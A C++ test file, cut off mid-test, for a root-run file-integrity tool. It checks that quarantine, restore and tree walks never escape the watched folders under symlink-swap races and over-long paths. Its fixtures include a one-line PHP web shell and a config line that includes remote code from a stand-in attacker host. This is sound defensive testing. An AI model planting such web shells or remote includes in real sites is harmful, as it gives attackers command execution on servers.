// Containment in a hostile tree, on the real norv-cli binary and real folders. norv runs as root
// over folders other users can write: nothing it does may reach outside the watched trees, not
// while an attacker swaps a folder for a link under it, not through names or paths longer than
// the system's limits, not through same-named files elsewhere, and evidence in the cracked
// folder is never disturbed by a later run.
#include <gtest/gtest.h>

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <climits>
#include <cstdio>
#include <cstdlib>
#include <functional>
#include <map>
#include <memory>
#include <random>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "platform/text/text_file.h"
#include "tests/support/process.h"
#include "tests/support/test_support.h"

namespace norv {
namespace {

using std::chrono::seconds;
using testing::ReadAll;
using testing::TempDir;
using SteadyClock = std::chrono::steady_clock;

constexpr uid_t kNobody = 65534;
constexpr gid_t kNogroup = 65534;

// Between two looks at a condition; every wait loop also has a deadline.
void Pause() { std::this_thread::sleep_for(std::chrono::milliseconds(1)); }

using testing::Outcome;
using testing::Reap;
using testing::RunProcess;
using testing::Spawn;

std::string Octal(unsigned value) {
    char buffer[16];
    std::snprintf(buffer, sizeof buffer, "%o", value);
    return buffer;
}

// Every entry below `full` (itself as `relative`), by kind, mode, owner and content or link
// target. Links are described, never followed.
void SnapshotInto(const std::string& full, const std::string& relative,
                  std::map<std::string, std::string>& out) {
    struct stat st {};
    if (::lstat(full.c_str(), &st) != 0) {
        out[relative] = "cannot be examined";
        return;
    }
    std::string facts = "mode " + Octal(st.st_mode) + " owner " + std::to_string(st.st_uid) + ":" +
                        std::to_string(st.st_gid);
    if (S_ISREG(st.st_mode)) {
        out[relative] = facts + " content \"" + ReadAll(full) + "\"";
    } else if (S_ISLNK(st.st_mode)) {
        char target[PATH_MAX];
        ssize_t n = ::readlink(full.c_str(), target, sizeof target);
        out[relative] = facts + " link to " + std::string(target, n > 0 ? size_t(n) : 0);
    } else if (S_ISDIR(st.st_mode)) {
        out[relative] = facts + " folder";
        DIR* dir = ::opendir(full.c_str());
        if (!dir) return;
        std::vector<std::string> names;
        while (dirent* e = ::readdir(dir)) {
            std::string name = e->d_name;
            if (name != "." && name != "..") names.push_back(name);
        }
        ::closedir(dir);
        for (const std::string& name : names) {
            SnapshotInto(full + "/" + name, relative + "/" + name, out);
        }
    } else {
        out[relative] = facts;
    }
}

std::map<std::string, std::string> Snapshot(const std::string& root) {
    std::map<std::string, std::string> out;
    SnapshotInto(root, ".", out);
    return out;
}

// What differs between two snapshots, one line each, the first dozen and a count of the rest
// (empty when they are equal).
std::string Differences(const std::map<std::string, std::string>& before,
                        const std::map<std::string, std::string>& after) {
    std::vector<std::string> lines;
    for (const auto& [path, facts] : before) {
        auto it = after.find(path);
        if (it == after.end()) {
            lines.push_back("removed " + path + " (" + facts + ")");
        } else if (it->second != facts) {
            lines.push_back("changed " + path + ": " + facts + " -> " + it->second);
        }
    }
    for (const auto& [path, facts] : after) {
        if (!before.count(path)) lines.push_back("added " + path + " (" + facts + ")");
    }
    std::string text;
    for (size_t i = 0; i < lines.size() && i < 12; ++i) text += lines[i] + "\n";
    if (lines.size() > 12) text += "and " + std::to_string(lines.size() - 12) + " more\n";
    return text;
}

// The names in a folder, sorted; none when it is missing.
std::vector<std::string> Names(const std::string& dir) {
    std::vector<std::string> names;
    DIR* d = ::opendir(dir.c_str());
    if (!d) return names;
    while (dirent* e = ::readdir(d)) {
        std::string name = e->d_name;
        if (name != "." && name != "..") names.push_back(name);
    }
    ::closedir(d);
    std::sort(names.begin(), names.end());
    return names;
}

struct FoundFile {
    std::string path;
    std::string content;
};

// Every regular file below `dir`, with its content; links are not followed.
std::vector<FoundFile> RegularFilesBelow(const std::string& dir) {
    std::vector<FoundFile> files;
    for (const std::string& name : Names(dir)) {
        std::string path = dir + "/" + name;
        struct stat st {};
        if (::lstat(path.c_str(), &st) != 0) continue;
        if (S_ISREG(st.st_mode)) files.push_back({path, ReadAll(path)});
        if (S_ISDIR(st.st_mode)) {
            auto below = RegularFilesBelow(path);
            files.insert(files.end(), below.begin(), below.end());
        }
    }
    return files;
}

std::vector<FoundFile> FilesHolding(const std::string& dir, const std::string& content) {
    std::vector<FoundFile> found;
    for (auto& f : RegularFilesBelow(dir)) {
        if (f.content == content) found.push_back(f);
    }
    return found;
}

std::string FileNameOf(const std::string& path) { return path.substr(path.rfind('/') + 1); }

std::vector<std::string> LogLines(const std::string& log) {
    std::vector<std::string> lines;
    size_t start = 0;
    while (start < log.size()) {
        size_t end = log.find('\n', start);
        if (end == std::string::npos) end = log.size();
        std::string line = log.substr(start, end - start);
        if (!line.empty() && line.back() == '\r') line.pop_back();
        lines.push_back(line);
        start = end + 1;
    }
    return lines;
}

bool HasLine(const std::string& log, const std::string& wanted) {
    for (const std::string& line : LogLines(log)) {
        if (line == wanted) return true;
    }
    return false;
}

// A change line for the file under either of the names it may be reported by (a link's own
// path or its target's).
bool HasChange(const std::string& log, const std::string& word,
               const std::vector<std::string>& paths) {
    for (const std::string& path : paths) {
        if (HasLine(log, word + path)) return true;
    }
    return false;
}

struct Fd {
    explicit Fd(int value = -1) : fd(value) {}
    ~Fd() {
        if (fd >= 0) ::close(fd);
    }
    Fd(const Fd&) = delete;
    Fd& operator=(const Fd&) = delete;
    int fd;
};

bool WriteAt(int dirfd, const std::string& name, const std::string& content) {
    Fd out(::openat(dirfd, name.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW, 0644));
    if (out.fd < 0) return false;
    return ::write(out.fd, content.data(), content.size()) == static_cast<ssize_t>(content.size());
}

// Removes `name` in `parent` with everything below it, through descriptors only, so paths of
// any length go.
void RemoveTreeAt(int parent, const std::string& name) {
    int fd = ::openat(parent, name.c_str(), O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
    if (fd < 0) {
        ::unlinkat(parent, name.c_str(), 0);
        return;
    }
    int listing = ::dup(fd);
    DIR* dir = listing >= 0 ? ::fdopendir(listing) : nullptr;
    std::vector<std::string> names;
    if (dir) {
        while (dirent* e = ::readdir(dir)) {
            std::string n = e->d_name;
            if (n != "." && n != "..") names.push_back(n);
        }
        ::closedir(dir);
    }
    for (const std::string& n : names) RemoveTreeAt(fd, n);
    ::close(fd);
    ::unlinkat(parent, name.c_str(), AT_REMOVEDIR);
}

class ContainmentTest : public ::testing::Test {
  protected:
    void SetUp() override {
        binary = testing::CliBinary();
        ASSERT_FALSE(binary.empty()) << "NORV_CLI names the binary under test";
        save = program / "save";
        cracked = program / "cracked";
        ASSERT_EQ(::mkdir(save.c_str(), 0700), 0);
        WriteSettings(/*restore=*/true);
    }

    void WriteSettings(bool restore) { WriteSettings(restore, cracked); }
    void WriteSettings(bool restore, const std::string& cracked_dir) {
        auto lines = testing::SettingsLines(save, cracked_dir);
        lines[12] = restore ? " 1 " : " 0 ";
        ASSERT_TRUE(platform::WriteTextFileAtomic(testing::SystemEnv(), program / "norvcfg.txt",
                                                  lines, "UTF-8")
                        .ok());
    }
    void Rules(const std::vector<std::pair<std::string, int>>& rules) {
        std::string text;
        for (const auto& [path, kind] : rules) {
            text += "<rule>" + path + "," + std::to_string(kind) + "</rule>\r\n";
        }
        testing::WriteAll(program / "user_rule.txt", text);
    }
    Outcome Run(const std::string& verb, seconds limit = seconds(120)) {
        return RunProcess({binary, "--dir", program.path(), verb}, scratch / "out.txt", limit);
    }
    std::string Log() { return ReadAll(program / "norv.log"); }
    void ArchiveAndInit() {
        Outcome archived = Run("archive");
        ASSERT_EQ(archived.exit_code, 0) << archived.out;
        Outcome init = Run("init");
        ASSERT_EQ(init.exit_code, 0) << init.out;
    }

    std::string binary;
    TempDir program;
    TempDir tree;
    TempDir scratch;
    std::string save;
    std::string cracked;
};

// ---------------------------------------------------------------------------------------------
// Names and paths beyond the system's limits.

TEST_F(ContainmentTest, ANewFileWithANearlyMaximalNameIsMovedUnderANameThatFits) {
    tree.Write("site/index.html", "<h1>home</h1>");
    Rules({{tree / "site", 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    // 244 bytes: with a date and time in front, the copy's name would pass the 255-byte limit.
    const std::string planted = "<?php system($_GET['c']); ?>";
    const std::string path = tree.Write("site/" + std::string(240, 'a') + ".php", planted);

    Outcome check = Run("check", seconds(30));
    ASSERT_FALSE(check.timed_out) << "the check never ended";
    EXPECT_EQ(check.exit_code, 1) << check.out;
    struct stat st {};
    EXPECT_NE(::lstat(path.c_str(), &st), 0) << "the planted file is still in place";
    auto copies = FilesHolding(cracked, planted);
    ASSERT_EQ(copies.size(), 1u) << check.out;
    EXPECT_LE(FileNameOf(copies[0].path).size(), 255u);
}

TEST_F(ContainmentTest, APathLongerThanPathMaxIsWalkedAndItsChangesReported) {
    WriteSettings(/*restore=*/false);
    const std::string index = tree.Write("site/index.html", "<h1>home</h1>");
    // 25 folders of 200 characters: over 5,000 bytes below the tree, past PATH_MAX, so the
    // chain is built (and later removed) through descriptors.
    Fd root(::open(tree.path().c_str(), O_RDONLY | O_DIRECTORY));
    ASSERT_GE(root.fd, 0);
    struct RemoveDeep {
        int parent;
        ~RemoveDeep() { RemoveTreeAt(parent, "deep"); }
    } remove_deep{root.fd};
    ASSERT_EQ(::mkdirat(root.fd, "deep", 0755), 0);
    std::string deep_path = tree / "deep";
    auto leaf = std::make_unique<Fd>(::openat(root.fd, "deep", O_RDONLY | O_DIRECTORY));
    for (int i = 0; i < 25; ++i) {
        std::string name(200, static_cast<char>('a' + i));
        ASSERT_EQ(::mkdirat(leaf->fd, name.c_str(), 0755), 0);
        auto next = std::make_unique<Fd>(::openat(leaf->fd, name.c_str(), O_RDONLY | O_DIRECTORY));
        ASSERT_GE(next->fd, 0);
        leaf = std::move(next);
        deep_path += "/" + name;
    }
    ASSERT_TRUE(WriteAt(leaf->fd, "deep.txt", "deep v1"));
    deep_path += "/deep.txt";
    ASSERT_GT(deep_path.size(), static_cast<size_t>(PATH_MAX));
    Rules({{tree.path(), 3}});

    Outcome init = Run("init");
    ASSERT_EQ(init.exit_code, 0) << init.out;
    EXPECT_NE(init.out.find("( 2 )"), std::string::npos) << init.out;
    Outcome clean = Run("check");
    EXPECT_EQ(clean.exit_code, 0) << clean.out;

    testing::WriteAll(index, "<h1>defaced</h1>");
    Outcome altered = Run("check");
    EXPECT_EQ(altered.exit_code, 1) << altered.out;
    EXPECT_TRUE(HasLine(Log(), "Altered: " + index)) << Log();

    ASSERT_TRUE(WriteAt(leaf->fd, "deep.txt", "deep v2"));
    Outcome deep = Run("check");
    EXPECT_EQ(deep.exit_code, 1) << deep.out;
    EXPECT_TRUE(HasLine(Log(), "Altered: " + deep_path)) << deep.out;
}

// ---------------------------------------------------------------------------------------------
// A restore puts back exactly the file that changed, as it was archived.

TEST_F(ContainmentTest, EachAlteredFileIsKeptAndGetsItsOwnArchivedContentBack) {
    const std::string a = tree.Write("site/a/index.html", "<h1>a</h1>");
    const std::string b = tree.Write("site/b/index.html", "<h1>b</h1>");
    Rules({{tree / "site", 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    // One edit that looks legitimate, one defacement: both are changes against the baseline.
    testing::WriteAll(a, "<h1>a</h1><p>opening hours</p>");
    testing::WriteAll(b, "<h1>defaced</h1>");

    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    EXPECT_TRUE(HasLine(Log(), "Altered: " + a)) << Log();
    EXPECT_TRUE(HasLine(Log(), "Altered: " + b)) << Log();
    EXPECT_EQ(FilesHolding(cracked, "<h1>a</h1><p>opening hours</p>").size(), 1u);
    EXPECT_EQ(FilesHolding(cracked, "<h1>defaced</h1>").size(), 1u);
    EXPECT_EQ(ReadAll(a), "<h1>a</h1>");
    EXPECT_EQ(ReadAll(b), "<h1>b</h1>");
}

TEST_F(ContainmentTest, ARestoreLeavesASameNamedFileElsewhereUntouched) {
    const std::string a = tree.Write("site/a/index.html", "<h1>a</h1>");
    const std::string b = tree.Write("site/b/index.html", "<h1>b</h1>");
    Rules({{tree / "site", 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    struct stat before {};
    ASSERT_EQ(::lstat(a.c_str(), &before), 0);
    testing::WriteAll(b, "<h1>defaced</h1>");

    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    EXPECT_TRUE(HasLine(Log(), "Altered: " + b)) << Log();
    EXPECT_FALSE(HasLine(Log(), "Altered: " + a)) << Log();
    EXPECT_EQ(ReadAll(b), "<h1>b</h1>");
    struct stat after {};
    ASSERT_EQ(::lstat(a.c_str(), &after), 0);
    EXPECT_EQ(after.st_ino, before.st_ino) << "a/index.html was replaced";
    EXPECT_EQ(after.st_mtim.tv_sec, before.st_mtim.tv_sec);
    EXPECT_EQ(after.st_mtim.tv_nsec, before.st_mtim.tv_nsec);
    EXPECT_EQ(ReadAll(a), "<h1>a</h1>");
}

TEST_F(ContainmentTest, ARestoredFileGetsBackItsOwnerAndMode) {
    if (::geteuid() != 0) GTEST_SKIP() << "giving a file to another owner needs root";
    const std::string config = tree.Write("site/config.php", "<?php $db_password = 'x'; ?>");
    ASSERT_EQ(::chown(config.c_str(), 33, 33), 0);
    ASSERT_EQ(::chmod(config.c_str(), 0640), 0);
    Rules({{tree / "site", 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    testing::WriteAll(config, "<?php include 'http://evil.example/x'; ?>");

    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    EXPECT_EQ(ReadAll(config), "<?php $db_password = 'x'; ?>");
    struct stat st {};
    ASSERT_EQ(::lstat(config.c_str(), &st), 0);
    EXPECT_EQ(st.st_uid, 33u);
    EXPECT_EQ(st.st_gid, 33u);
    EXPECT_EQ(st.st_mode & 07777, 0640u);
}

// ---------------------------------------------------------------------------------------------
// The cracked folder: evidence stays where it was put, and says where it came from.

TEST_F(ContainmentTest, ACrackedFolderInsideTheTreeIsSkippedAndItsCopiesStay) {
    const std::string quarantine = tree / "site/quarantine";
    WriteSettings(/*restore=*/true, quarantine);
    tree.Write("site/index.html", "<h1>home</h1>");
    Rules({{tree / "site", 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    const std::string planted = "<?php evil(); ?>";
    tree.Write("site/shell.php", planted);

    Outcome first = Run("check");
    ASSERT_FALSE(first.timed_out);
    EXPECT_EQ(first.exit_code, 1) << first.out;
    const auto names = Names(quarantine);
    auto copies = FilesHolding(quarantine, planted);
    ASSERT_EQ(copies.size(), 1u) << first.out;

    Outcome second = Run("check");
    ASSERT_FALSE(second.timed_out);
    EXPECT_NE(second.exit_code, 2) << second.out;
    EXPECT_EQ(Names(quarantine), names) << "a copy in the cracked folder was moved again";
    EXPECT_EQ(ReadAll(copies[0].path), planted);
    bool skipped = false;
    const std::string mark = "Skipped: " + quarantine;
    for (const std::string& line : LogLines(Log())) {
        if (line.rfind(mark, 0) != 0) continue;
        std::string rest = line.substr(mark.size());
        // The folder itself, not one whose name merely begins the same way.
        if (rest.empty() || rest[0] == '/' || rest[0] == ' ' || rest[0] == '(') skipped = true;
    }
    EXPECT_TRUE(skipped) << Log();
}

TEST_F(ContainmentTest, TheCrackedFolderIndexNamesEachCopysOriginalPath) {
    tree.Write("site/index.html", "<h1>home</h1>");
    Rules({{tree / "site", 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    const std::string planted = "<?php dropper(); ?>";
    const std::string path = tree.Write("site/uploads/dropper.php", planted);

    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    auto copies = FilesHolding(cracked, planted);
    ASSERT_EQ(copies.size(), 1u) << check.out;
    bool named = false;
    for (const auto& file : RegularFilesBelow(cracked)) {
        if (file.path != copies[0].path && file.content.find(path) != std::string::npos) {
            named = true;
        }
    }
    EXPECT_TRUE(named) << "no file in the cracked folder names " << path;
}

// ---------------------------------------------------------------------------------------------
// Rules that name links: the administrator's own links are followed to what they name.

TEST_F(ContainmentTest, AFolderRuleThatIsALinkIsWalkedInItsTarget) {
    WriteSettings(/*restore=*/false);
    const std::string real = tree / "real";
    tree.Write("real/page.html", "v1");
    tree.Write("real/sub/deep.html", "d");
    const std::string link = scratch / "site";
    ASSERT_EQ(::symlink(real.c_str(), link.c_str()), 0);
    Rules({{link, 3}});

    Outcome init = Run("init");
    ASSERT_EQ(init.exit_code, 0) << init.out;
    EXPECT_NE(init.out.find("( 2 )"), std::string::npos) << init.out;
    tree.Write("real/page.html", "v2");
    tree.Write("real/new.html", "n");
    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    EXPECT_TRUE(HasChange(Log(), "Altered: ", {link + "/page.html", real + "/page.html"})) << Log();
    EXPECT_TRUE(HasChange(Log(), "Created: ", {link + "/new.html", real + "/new.html"})) << Log();
}

TEST_F(ContainmentTest, AFileRuleThatIsALinkWatchesItsTargetsContent) {
    WriteSettings(/*restore=*/false);
    const std::string target = tree.Write("etc/app.conf", "debug=0\n");
    const std::string link = scratch / "app.conf";
    ASSERT_EQ(::symlink(target.c_str(), link.c_str()), 0);
    Rules({{link, 0}});

    Outcome init = Run("init");
    ASSERT_EQ(init.exit_code, 0) << init.out;
    Outcome clean = Run("check");
    EXPECT_EQ(clean.exit_code, 0) << clean.out;
    testing::WriteAll(target, "debug=1\n");  // same size, the link itself unchanged
    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    EXPECT_TRUE(HasChange(Log(), "Altered: ", {link, target})) << Log();
}

// ---------------------------------------------------------------------------------------------
// The archive: a killed run leaves nothing behind; names no text command could carry go in and
// come back.

TEST_F(ContainmentTest, AKilledArchiveLeavesNoTemporaryFileOnceArchivedAgain) {
    for (int i = 0; i < 3000; ++i) {
        tree.Write("d" + std::to_string(i % 30) + "/f" + std::to_string(i),
                   std::string(2000, static_cast<char>('a' + i % 26)));
    }
    std::mt19937 rng(7);
    std::string noise(8 << 20, '\0');
    for (auto& c : noise) c = static_cast<char>(rng());
    tree.Write("noise.bin", noise);  // does not compress: the run takes a while
    Rules({{tree.path(), 3}});

    pid_t pid = Spawn({binary, "--dir", program.path(), "archive"}, scratch / "killed.txt");
    ASSERT_GT(pid, 0);
    // Kill it once it is writing: a new entry in the save folder, or a descriptor it holds open
    // on a file there (a file without a name has no entry).
    auto writing = [&] {
        for (const std::string& name : Names(save)) {
            if (name != "arcive.lzh") return true;
        }
        const std::string fds = "/proc/" + std::to_string(pid) + "/fd";
        for (const std::string& fd : Names(fds)) {
            char target[PATH_MAX];
            ssize_t n = ::readlink((fds + "/" + fd).c_str(), target, sizeof target);
            if (n > 0 && std::string(target, size_t(n)).rfind(save + "/", 0) == 0) return true;
        }
        return false;
    };
    bool caught = false;
    bool ended = false;
    const auto deadline = SteadyClock::now() + seconds(60);
    while (!caught && !ended && SteadyClock::now() < deadline) {
        if (writing()) {
            caught = true;
        } else if (::waitpid(pid, nullptr, WNOHANG) == pid) {
            ended = true;
        } else {
            Pause();
        }
    }
    if (!ended) {
        ::kill(pid, SIGKILL);
        ::waitpid(pid, nullptr, 0);
    }
    ASSERT_TRUE(caught) << "the archive run was never seen writing: "
                        << ReadAll(scratch / "killed.txt");

    Outcome again = Run("archive");
    EXPECT_EQ(again.exit_code, 0) << again.out;
    EXPECT_EQ(Names(save), std::vector<std::string>{"arcive.lzh"});
}

TEST_F(ContainmentTest, ARuleFolderWithAQuoteInItsNameIsArchivedAndRestored) {
    const std::string folder = tree / "we\"b";
    tree.Write("we\"b/index.html", "<p>home</p>");
    const std::string page = tree.Write("we\"b/inner/page.html", "<p>page</p>");
    Rules({{folder, 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    ASSERT_EQ(::unlink(page.c_str()), 0);

    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    EXPECT_TRUE(HasLine(Log(), "Deleted: " + page)) << Log();
    EXPECT_EQ(ReadAll(page), "<p>page</p>") << check.out;
}

TEST_F(ContainmentTest, FileNamesWithLineBreaksStarsQuotesAndNonUtf8BytesAreArchivedAndRestored) {
    const std::vector<std::string> names = {"line\nbreak.html", "star*.html", "quote\".html",
                                            "bad\xFF\xFE.html"};
    tree.Write("site/plain.html", "plain");
    for (size_t i = 0; i < names.size(); ++i) {
        tree.Write("site/" + names[i], "content " + std::to_string(i));
    }
    Rules({{tree / "site", 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    for (const std::string& name : names) ASSERT_EQ(::unlink((tree / ("site/" + name)).c_str()), 0);

    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    EXPECT_NE(check.out.find("削除 4"), std::string::npos) << check.out;
    for (size_t i = 0; i < names.size(); ++i) {
        EXPECT_EQ(ReadAll(tree / ("site/" + names[i])), "content " + std::to_string(i))
            << "not restored: " << testing::ReadAll(scratch / "out.txt");
    }
}

// ---------------------------------------------------------------------------------------------
// Races: an unprivileged attacker swaps a folder of the tree with a link to a folder outside it,
// continually, while norv (as root) walks, moves and restores.

// The swap_race helper, run as nobody, and stopped (SIGTERM) when the test is done with it.
class Racer {
  public:
    Racer(const std::string& helper, const std::string& inside, const std::string& spare,
          const std::string& outside, const std::string& out_file)
        : out_file_(out_file) {
        pid_ = Spawn({helper, "--uid", std::to_string(kNobody), "--gid", std::to_string(kNogroup),
                      "--relink", outside, inside, spare, "300"},
                     out_file);
    }
    // Moves `inside` to `away` and back, over and over.
    Racer(const std::string& helper, const std::string& inside, const std::string& away,
          const std::string& out_file)
        : out_file_(out_file) {
        pid_ = Spawn({helper, "--uid", std::to_string(kNobody), "--gid", std::to_string(kNogroup),
                      "--away", inside, away, "300"},
                     out_file);
    }
    // Replaces every entry of `folder` named `prefix`... with a file of its own (`own`).
    struct Plant {
        std::string prefix;
    };
    Racer(const std::string& helper, const Plant& plant, const std::string& folder,
          const std::string& own, const std::string& out_file)
        : out_file_(out_file) {
        pid_ = Spawn({helper, "--uid", std::to_string(kNobody), "--gid", std::to_string(kNogroup),
                      "--plant", plant.prefix, folder, own, "300"},
                     out_file);
    }
    ~Racer() { Stop(); }
    Racer(const Racer&) = delete;
    Racer& operator=(const Racer&) = delete;

    // True once the first exchange has happened.
    bool WaitStarted(seconds limit) {
        const auto deadline = SteadyClock::now() + limit;
        while (SteadyClock::now() < deadline) {
            if (ReadAll(out_file_).find("started\n") != std::string::npos) return true;
            if (pid_ <= 0 || ::waitpid(pid_, nullptr, WNOHANG) == pid_) {
                pid_ = -1;
                return false;
            }
            Pause();
        }
        return false;
    }
    // Stops the racer; returns how many exchanges it made.
    unsigned long long Stop() {
        if (pid_ > 0) {
            ::kill(pid_, SIGTERM);
            Reap(pid_, SteadyClock::now() + seconds(10));
            pid_ = -1;
        }
        std::string report = ReadAll(out_file_);
        size_t at = report.find("swaps ");
        return at == std::string::npos ? 0 : std::strtoull(report.c_str() + at + 6, nullptr, 10);
    }
    std::string Report() const { return ReadAll(out_file_); }

  private:
    std::string out_file_;
    pid_t pid_ = -1;
};

class ContainmentRaceTest : public ContainmentTest {
  protected:
    void SetUp() override {
        ContainmentTest::SetUp();
        if (HasFatalFailure()) return;
        if (::geteuid() != 0) GTEST_SKIP() << "the races run as root, with the attacker as nobody";
        const char* helper = std::getenv("NORV_SWAP_RACE");
        ASSERT_NE(helper, nullptr) << "NORV_SWAP_RACE names the swap_race helper";
        racer_binary = helper;
        // The attacker must reach the folders it works in.
        ASSERT_EQ(::chmod(tree.path().c_str(), 0755), 0);
        ASSERT_EQ(::chmod(stage.path().c_str(), 0755), 0);
        ASSERT_EQ(::chown(stage.path().c_str(), kNobody, kNogroup), 0);
        ASSERT_EQ(::chmod(outside.path().c_str(), 0755), 0);
    }
    void GiveToAttacker(const std::string& path) {
        ASSERT_EQ(::lchown(path.c_str(), kNobody, kNogroup), 0) << path;
    }
    // The attacker's spare name: a link to the outside folder, ready to be swapped in.
    std::string SpareLink(const std::string& name) {
        std::string spare = stage / name;
        EXPECT_EQ(::symlink(outside.path().c_str(), spare.c_str()), 0);
        GiveToAttacker(spare);
        return spare;
    }

    // The protected files `name(i)` in site/a/b/c, root's, below folders the attacker owns (it
    // may move b); a root-owned outside folder laid out like b, so a way through the link
    // resolves; archived and recorded. The attacker's spare link to the outside is returned.
    std::string LayOutFilesBelowAnAttackersFolder(int files,
                                                  const std::function<std::string(int)>& name) {
        tree.Write("site/index.html", "<h1>home</h1>");
        for (int i = 0; i < files; ++i) {
            tree.Write("site/a/b/c/" + name(i), "protected " + std::to_string(i));
        }
        GiveToAttacker(tree / "site/a");
        GiveToAttacker(tree / "site/a/b");
        for (int i = 0; i < files; ++i) {
            outside.Write("c/" + name(i), "outside root file " + std::to_string(i));
        }
        outside.Write("c/passwd", "root:x:0:0::/root:/bin/sh\n");
        outside.Write("keep.txt", "outside keep");
        const std::string spare = SpareLink("b");
        Rules({{tree / "site", 3}});
        ArchiveAndInit();
        return spare;
    }

    std::string racer_binary;
    TempDir outside;  // must never change
    TempDir stage;    // the attacker's own folder, outside every rule
};

TEST_F(ContainmentRaceTest, AWalkRacingAFolderSwappedForALinkNeverTouchesTheOutside) {
    // Thousands of files for the walk to get through, some in the same folder as the target.
    for (int i = 0; i < 2000; ++i) {
        tree.Write("bulk/d" + std::to_string(i % 10) + "/f" + std::to_string(i),
                   "bulk " + std::to_string(i));
    }
    for (int i = 0; i < 200; ++i) tree.Write("up/page" + std::to_string(i) + ".html", "page");
    for (int i = 0; i < 20; ++i)
        tree.Write("up/x/f" + std::to_string(i), "inside " + std::to_string(i));
    for (int i = 0; i < 5; ++i) tree.Write("up/x/sub/g" + std::to_string(i), "inside sub");
    GiveToAttacker(tree / "up");
    GiveToAttacker(tree / "up/x");
    // The outside: the same names as x with other contents (each a change to the baseline if
    // reached), names of its own, and owners and modes worth keeping.
    for (int i = 0; i < 20; ++i) {
        outside.Write("f" + std::to_string(i), "outside secret " + std::to_string(i));
    }
    for (int i = 0; i < 5; ++i) outside.Write("sub/g" + std::to_string(i), "outside sub secret");
    for (int i = 0; i < 10; ++i) {
        std::string p = outside.Write("secret" + std::to_string(i) + ".key",
                                      "outside key " + std::to_string(i));
        ASSERT_EQ(::chmod(p.c_str(), 0600), 0);
    }
    ASSERT_EQ(::chown((outside / "f0").c_str(), 33, 33), 0);
    const std::string spare = SpareLink("x");
    Rules({{tree.path(), 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    const auto before = Snapshot(outside.path());

    Racer racer(racer_binary, tree / "up/x", spare, outside.path(), scratch / "racer.txt");
    ASSERT_TRUE(racer.WaitStarted(seconds(10))) << racer.Report();
    int checks = 0;
    bool raced = false;
    const auto deadline = SteadyClock::now() + seconds(40);
    for (; checks < 100 && SteadyClock::now() < deadline; ++checks) {
        // Every other check opens and reads its files one by one, the others in io_uring
        // batches where the kernel offers them.
        ::setenv("NORV_IO", checks % 2 ? "plain" : "uring", 1);
        Outcome check = Run("check", seconds(60));
        ASSERT_FALSE(check.timed_out) << "check " << checks << " never ended";
        ASSERT_NE(check.exit_code, -1) << "check " << checks << " crashed: " << check.out;
        // Whichever way the walk met x (a folder, a link, gone), some change names it.
        if (Log().find(tree / "up/x") != std::string::npos) raced = true;
    }
    ::unsetenv("NORV_IO");
    const auto swaps = racer.Stop();
    RecordProperty("checks", checks);
    RecordProperty("swaps", std::to_string(swaps));

    EXPECT_GT(swaps, 0u) << racer.Report();
    EXPECT_GE(checks, 20) << "too few checks in the time allowed";
    EXPECT_TRUE(raced) << "no check ever met the swapped folder";
    EXPECT_EQ(Differences(before, Snapshot(outside.path())), "") << "after " << checks << " checks";
    std::string taken;
    for (const auto& file : RegularFilesBelow(cracked)) {
        if (file.content.rfind("outside ", 0) == 0) taken += FileNameOf(file.path) + "\n";
    }
    EXPECT_EQ(taken, "") << "files of the outside folder in the cracked folder";
}

TEST_F(ContainmentRaceTest, AnInitRacingAFolderMovedAwayAndBackNeverDropsItInSilence) {
    for (int i = 0; i < 300; ++i) tree.Write("bulk/f" + std::to_string(i), "bulk");
    for (int i = 0; i < 50; ++i)
        tree.Write("up/x/f" + std::to_string(i), "kept " + std::to_string(i));
    GiveToAttacker(tree / "up");
    GiveToAttacker(tree / "up/x");
    Rules({{tree.path(), 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    // Each round: an init while x is moved away and back, then a check with x in place. An init
    // that met x gone keeps x's baseline (exit 1, nothing new after it); one that saw no x at
    // all, twice, says it dropped x's files; one that saw x whole leaves a clean check.
    bool kept = false;
    const auto deadline = SteadyClock::now() + seconds(60);
    for (int round = 0; round < 40 && !kept && SteadyClock::now() < deadline; ++round) {
        // Away into the attacker's own folder, outside every rule.
        Racer racer(racer_binary, tree / "up/x", stage / "y", scratch / "racer.txt");
        ASSERT_TRUE(racer.WaitStarted(seconds(10))) << racer.Report();
        Outcome init = Run("init");
        racer.Stop();
        if (::access((tree / "up/x").c_str(), F_OK) != 0) {
            ASSERT_EQ(::rename((stage / "y").c_str(), (tree / "up/x").c_str()), 0);
        }
        ASSERT_NE(init.exit_code, 2) << init.out;
        const std::string init_log = Log();
        kept = init.exit_code == 1;
        const bool said = init_log.find("Warning: " + (tree / "up/x/")) != std::string::npos;
        EXPECT_EQ(kept, init_log.find("検査できません") != std::string::npos) << init_log;
        Outcome check = Run("check");
        if (kept || !said) {
            EXPECT_EQ(check.exit_code, 0) << "round " << round << ": " << check.out << Log();
        }
    }
    EXPECT_TRUE(kept) << "no init met the moved folder gone";
}

TEST_F(ContainmentRaceTest, RestoresRacingAFolderSwappedForALinkNeverWriteOutside) {
    constexpr int kFiles = 16;
    auto name = [](int i) { return "r" + std::to_string(i) + ".dat"; };
